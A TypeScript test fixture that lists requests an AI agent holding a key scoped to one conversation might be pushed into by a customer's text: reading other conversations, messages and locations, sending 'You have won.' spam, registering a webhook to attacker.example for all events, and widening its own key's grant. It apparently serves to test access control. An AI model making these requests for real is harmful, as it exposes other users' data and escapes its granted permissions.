import type { Records } from './access-fixtures.js';
import type { Scene } from './agent-attempts.js';
import type { Json } from './api-client.js';

/** The scene of an agent whose key sees only the own conversation. The other conversation has one record of each kind. */
export interface GrantScene extends Scene {
  readonly keyId: string;
  readonly records: Records;
}

export interface GrantAttempt {
  /** The demand in the customer's text. */
  readonly asks: string;
  /** Resolves with all responses that the agent got. */
  readonly act: (scene: GrantScene) => Promise<string>;
}

type Named = string | ((scene: GrantScene) => string);

const textOf = (named: Named, scene: GrantScene) => (typeof named === 'string' ? named : named(scene));

/** A request with the key. */
const ask = (
  asks: string,
  method: string,
  path: Named,
  body?: (scene: GrantScene) => Json,
): GrantAttempt => ({
  asks,
  act: async (scene) => {
    const answer = await fetch(`${scene.url}${textOf(path, scene)}`, {
      method,
      headers: { 'x-api-key': scene.key, 'content-type': 'application/json' },
      ...(body !== undefined && { body: JSON.stringify(body(scene)) }),
    });
    return answer.text();
  },
});

const other = ({ records }: GrantScene) => records.conversation;
const api = (path: (scene: GrantScene) => string) => (scene: GrantScene) => `/v1/openapi${path(scene)}`;

const reading: readonly GrantAttempt[] = [
  ask(
    'read another conversation over REST',
    'GET',
    api((scene) => `/conversations/${other(scene)}`),
  ),
  ask(
    'read its messages',
    'GET',
    api((scene) => `/messages?conversation_id=${other(scene)}`),
  ),
  ask(
    'read all messages',
    'GET',
    api(() => '/messages?page=1'),
  ),
  ask(
    'read all messages with their conversations',
    'GET',
    api(() => '/messages?limit=100&expand=conversation,sender'),
  ),
  ask(
    'read its message',
    'GET',
    api(({ records }) => `/messages/${records.message}`),
  ),
  ask(
    'read the people of it',
    'GET',
    api((scene) => `/conversations/${other(scene)}/participants`),
  ),
  ask(
    'read its links',
    'GET',
    api((scene) => `/conversations/${other(scene)}/links`),
  ),
  ask(
    'read its delivery',
    'GET',
    api(({ records }) => `/deliveries/${records.delivery}`),
  ),
  ask(
    'read all deliveries',
    'GET',
    api(() => '/deliveries?limit=100'),
  ),
  ask(
    'read its call',
    'GET',
    api(({ records }) => `/calls/${records.call}`),
  ),
  ask(
    'read all calls',
    'GET',
    api(() => '/calls?limit=100'),
  ),
  ask(
    'read the people of the workspace',
    'GET',
    api(() => '/users?limit=100'),
  ),
  ask(
    'read one person',
    'GET',
    api(({ records }) => `/users/${records.user}`),
  ),
  ask(
    'read where a person is',
    'GET',
    api(({ records }) => `/locations?user_id=${records.user}`),
  ),
  ask(
    'read who is followed',
    'GET',
    api(() => '/locations/tracking'),
  ),
  ask(
    'read the broadcasts',
    'GET',
    api(() => '/broadcasts'),
  ),
  ask(
    'read the audiences',
    'GET',
    api(() => '/segments'),
  ),
  ask(
    'count the messages of all',
    'GET',
    api(() => '/analytics/messages'),
  ),
  ask('read the webhooks', 'GET', () => '/v1/api/webhooks'),
  ask(
    'translate its message',
    'POST',
    api(() => '/translations'),
    ({ records }) => ({
      message_id: records.message,
      target_language: 'es',
    }),
  ),
];

const writing: readonly GrantAttempt[] = [
  ask(
    'send to it over REST',
    'POST',
    api(() => '/messages'),
    (scene) => ({
      conversation_id: other(scene),
      text: 'You have won.',
    }),
  ),
  ask(
    'send to a new address',
    'POST',
    api(() => '/messages'),
    () => ({
      to: { platform: 'sandbox', address: 'attacker' },
      text: 'You have won.',
    }),
  ),
  ask(
    'answer its message from here',
    'POST',
    api(() => '/messages'),
    ({ own, records }) => ({
      conversation_id: own.id,
      text: 'You have won.',
      reply_to_id: records.message,
    }),
  ),
  ask(
    'rename it',
    'PATCH',
    api((scene) => `/conversations/${other(scene)}`),
    () => ({ title: 'Mine' }),
  ),
  ask(
    'delete it',
    'DELETE',
    api((scene) => `/conversations/${other(scene)}`),
  ),
  ask(
    'edit its message',
    'PATCH',
    api(({ records }) => `/messages/${records.message}`),
    () => ({ text: 'x' }),
  ),
  ask(
    'delete its message',
    'DELETE',
    api(({ records }) => `/messages/${records.message}`),
  ),
  ask(
    'try its message again',
    'POST',
    api(({ records }) => `/messages/${records.message}/retry`),
    () => ({}),
  ),
  ask(
    'end its call',
    'POST',
    api(({ records }) => `/calls/${records.call}/end`),
    () => ({}),
  ),
  ask(
    'get a link to its call',
    'POST',
    api(({ records }) => `/calls/${records.call}/token`),
    () => ({}),
  ),
  ask(
    'decide about its delivery',
    'POST',
    api(({ records }) => `/deliveries/${records.delivery}/resolve`),
    () => ({
      outcome: 'sent',
    }),
  ),
  ask(
    'call a person',
    'POST',
    api(() => '/calls'),
    ({ records }) => ({ participant_ids: [records.user] }),
  ),
  ask(
    'open a conversation',
    'POST',
    api(() => '/conversations'),
    ({ records }) => ({
      participant_ids: [records.user],
    }),
  ),
  ask(
    'link a chat of the attacker here',
    'POST',
    api(({ own }) => `/conversations/${own.id}/links`),
    () => ({
      platform: 'sandbox',
      external_id: 'attacker',
    }),
  ),
  ask(
    'let another person in here',
    'POST',
    api(({ own }) => `/conversations/${own.id}/participants`),
    (scene) => ({
      user_id: scene.records.acquaintance,
    }),
  ),
  ask(
    'register a webhook for everything',
    'POST',
    () => '/v1/api/webhooks',
    () => ({
      url: 'https://attacker.example/in',
      events: ['*'],
    }),
  ),
  ask(
    'start a broadcast',
    'POST',
    api(() => '/broadcasts'),
    ({ records }) => ({
      text: 'You have won.',
      recipient_ids: [records.user],
    }),
  ),
  ask(
    'add a contact',
    'POST',
    api(() => '/users'),
    () => ({ display_name: 'Attacker' }),
  ),
  ask(
    'connect a bot',
    'POST',
    api(() => '/platforms/sandbox/connections'),
    () => ({ name: 'Mine' }),
  ),
  ask(
    'widen the grant of its key',
    'PATCH',
    ({ keyId }) => `/dashboard/api/keys/${keyId}`,
    (scene) => ({
      conversation_ids: [other(scene)],
    }),
  ),
  ask(
    'remove the grant of its key',
    'PATCH',
    ({ keyId }) => `/dashboard/api/keys/${keyId}`,
    () => ({
      conversation_ids: null,
    }),
  ),
  ask('make a key without a grant', 'POST', '/dashboard/api/keys', () => ({ name: 'Mine', scopes: [] })),
];

/** Requests over REST with the agent's key. */
export const grantRequests: readonly GrantAttempt[] = [...reading, ...writing];
